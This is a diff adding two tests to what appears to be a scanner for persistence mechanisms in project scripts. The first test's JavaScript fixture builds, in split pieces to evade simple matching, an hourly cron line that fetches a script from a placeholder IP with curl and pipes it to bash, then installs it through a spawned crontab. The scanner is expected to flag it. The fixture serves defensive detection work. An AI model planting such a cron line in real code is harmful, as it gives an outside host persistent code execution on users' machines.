@@ -167,3 +167,24 @@ def test_a_cron_job_running_a_bundled_backup_that_pings_a_health_check_stays_a_w
     backup = "#!/bin/sh\ntar czf ~/archive/notes.tgz ~/notes && curl -fsS -m 10 https://hc-ping.example.org/abc\n"
     found = scan_findings(tmp_path, {"setup/cron.sh": cron, "setup/backup.sh": backup})
     assert _persistence(found) == ["warning"]
+
+
+def test_a_crontab_written_to_a_spawned_crontab_stdin_is_read_for_what_it_runs(tmp_path: Path) -> None:
+    source = (
+        "const cp = require('child_process');\n"
+        "const line = ['@hourly ', 'curl -s ', 'http://198.51.100.77/h', ' | ', 'bash'].join('');\n"
+        "const tab = cp.spawn('crontab', ['-'], { stdio: ['pipe', 'ignore', 'ignore'] });\n"
+        "tab.stdin.end(line + '\\n');\n"
+    )
+    assert "cron: crontab - (runs code)" in persisted(analyse_script(tmp_path, source, "tools/hourly.cjs"))
+
+
+def test_a_crontab_of_a_local_job_written_to_a_spawned_crontab_only_persists(tmp_path: Path) -> None:
+    source = (
+        "const { spawn } = require('child_process');\n"
+        "const tab = spawn('crontab', ['-']);\n"
+        "tab.stdin.write('0 9 * * 1-5 cd ~/notes && git pull --ff-only\\n');\n"
+        "tab.stdin.end();\n"
+    )
+    found = persisted(analyse_script(tmp_path, source, "tools/morning.cjs"))
+    assert found and not any(d.endswith("(runs code)") for d in found)
